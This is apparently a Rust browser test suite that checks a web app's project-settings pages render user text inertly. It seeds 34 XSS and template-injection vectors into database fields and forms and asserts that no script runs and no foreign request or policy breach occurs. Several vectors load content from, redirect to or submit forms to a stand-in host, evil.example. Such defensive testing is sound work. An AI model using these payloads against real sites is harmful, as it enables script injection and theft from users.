//! What people write is text: wherever a page shows it, nothing of it runs, loads or leads away.
//!
//! Each vector is in every text of a project of its own, and typed into forms as well. Every page
//! that shows one is opened; a single script, dialog, foreign request or breach of the policy fails.

use futures_util::future::join_all;
use serde_json::Value;

use crate::chrome::{Tab, Watched, with_browser};
use crate::site::Site;

/// At most 60 characters each, which fit every field but the shortest.
const VECTORS: [&str; 34] = [
    "<script>__ran=1</script>",
    "\"><script>__ran=1</script>",
    "'><script>__ran=1</script>",
    "</title><script>__ran=1</script>",
    "</textarea><script>__ran=1</script>",
    "--><script>__ran=1</script><!--",
    "<<script>__ran=1//<</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg><script>__ran=1</script></svg>",
    "\u{202e}<script>__ran=1</script>",
    "<img src=x onerror=__ran=1>",
    "\"><img src=x onerror=__ran=1>",
    "<img src=//evil.example/x.png>",
    "<svg onload=__ran=1>",
    "<body onload=__ran=1>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=__ran=1></video>",
    "<input autofocus onfocus=__ran=1>",
    "\" autofocus onfocus=\"__ran=1",
    "' autofocus onfocus='__ran=1",
    "\" onmouseover=\"__ran=1",
    "javascript:__ran=1",
    "<a href=\"javascript:__ran=1\">x</a>",
    "<iframe src=\"javascript:parent.__ran=1\">",
    "<iframe srcdoc=\"<script>parent.__ran=1</script>\">",
    "<object data=//evil.example/x></object>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import \"//evil.example/x\";</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>x",
    "&lt;script&gt;__ran=1&lt;/script&gt;",
    "{{ 7 * 7 }}{% include \"layout/base.html\" %}",
    "${7*7}<x style=color:red onclick=__ran=1>",
];

/// The pages that show a project's texts, below its settings.
const PAGES: [&str; 8] = [
    "general",
    "general/delete",
    "members",
    "members/{member}",
    "roles",
    "roles/{role}",
    "roles/{role}/delete",
    "tokens",
];

#[test]
fn what_people_write_is_only_ever_text() {
    with_browser("injection", || async {
        let site = Site::start().await;
        for (nth, vector) in VECTORS.iter().enumerate() {
            assert!(vector.chars().count() <= 60, "{vector}");
            write_everywhere(&site, nth, vector).await;
        }
        // A few at once, only to be done sooner.
        join_all((0..3).map(|first| walk(&site, (first..VECTORS.len()).step_by(3)))).await;
        site.stop().await;
    });
}

async fn walk(site: &Site, vectors: impl Iterator<Item = usize>) {
    let tab = site.tab_of(&site.world.admin).await;
    let watched = tab.watched().await;
    for nth in vectors {
        let vector = VECTORS[nth];
        let base = format!("/p/p{nth}/settings");
        // Texts that come back with a refusal, and beside a fresh secret.
        let typed = vector.trim_start_matches('\u{202e}');
        tab.goto(&format!("{base}/members")).await;
        tab.fill("#login", typed).await;
        tab.follow("main .button--primary").await;
        tab.sees("the person has to sign in once first").await;
        is_text(&tab, &watched, typed).await;
        tab.goto(&format!("{base}/tokens")).await;
        tab.fill("#name", typed).await;
        tab.click(".choice:last-child").await;
        tab.follow("main .button--primary").await;
        tab.sees("It works until you revoke it.").await;
        is_text(&tab, &watched, typed).await;
        for page in PAGES {
            tab.goto(&format!("{base}/{}", fill(site, nth, page).await)).await;
            is_text(&tab, &watched, vector).await;
        }
    }
    for path in ["/projects", "/me/profile", "/me/sessions", "/me/tokens"] {
        tab.goto(path).await;
        is_text(&tab, &watched, VECTORS[0]).await;
    }
}

#[test]
fn the_watch_sees_what_would_run_load_or_lead_away() {
    with_browser("injection watch", || async {
        let site = Site::start().await;
        let tab = site.tab_of(&site.world.admin).await;
        let watched = tab.watched().await;
        tab.goto("/projects").await;
        is_clean(&tab, &watched).await;

        // Were a text markup, the policy would still refuse it, and say so.
        let put = "document.querySelector('main').insertAdjacentHTML('beforeend', '<img src=x onerror=__ran=1>')";
        tab.ask(put).await;
        tab.until("window.__refused.length > 0").await;
        tab.ask("void setTimeout(() => { location = 'http://127.0.0.1:9/away' })").await;
        let noted = async {
            while watched.notes().is_empty() {
                tokio::task::yield_now().await;
            }
        };
        tokio::time::timeout(std::time::Duration::from_secs(20), noted).await.unwrap();
        assert_eq!(watched.notes(), ["a request to http://127.0.0.1:9/away"]);
        site.stop().await;
    });
}

/// A project whose every text is the vector.
async fn write_everywhere(site: &Site, nth: usize, vector: &str) {
    let world = &site.world;
    let project = world.project(&format!("p{nth}")).await;
    let person = world.member(&project, &format!("m{nth}"), &["backend"]).await.user;
    let short: String = vector.chars().take(30).collect();
    let all = VECTORS.join("\n");
    let id = project.id;
    world
        .run(format!(
            "update projects set name = $v${vector}$v$, description = $v${vector}\n{all}$v$, \
                 primary_language = $v${vector}$v$, project_type = $v${vector}$v$, \
                 cycle_label = $v${short}$v$ where id = '{id}';
             update cycles set name = $v${vector}$v$ where project_id = '{id}';
             update roles set label = $v${vector}$v$ where project_id = '{id}';
             update users set display_name = $v${vector}$v$ where id = '{person}';
             update sessions set browser = $v${vector}$v$",
            person = person.id,
        ))
        .await;
}

async fn fill(site: &Site, nth: usize, page: &str) -> String {
    let world = &site.world;
    let role = format!(
        "select r.id::text from roles r join projects p on p.id = r.project_id \
         where p.slug = 'p{nth}' and r.key = 'backend'"
    );
    let member = format!("select id::text from users where login = 'm{nth}'");
    page.replace("{role}", &world.text(role).await).replace("{member}", &world.text(member).await)
}

/// Fails unless the page shows the vector as it was written, and did nothing else with it.
async fn is_text(tab: &Tab, watched: &Watched, vector: &str) {
    is_clean(tab, watched).await;
    let texts = "document.documentElement.textContent + \
                 [...document.querySelectorAll('input')].map((one) => one.value).join(' ')";
    let texts = tab.ask(texts).await;
    let path = tab.path().await;
    assert!(texts.as_str().unwrap().contains(vector), "{path} does not show {vector}: {texts}");
}

async fn is_clean(tab: &Tab, watched: &Watched) {
    tab.is_clean().await;
    let path = tab.path().await;
    assert_eq!(tab.ask("window.__ran === undefined").await, Value::Bool(true), "{path}");
    assert_eq!(watched.notes(), Vec::<String>::new(), "{path}");
}
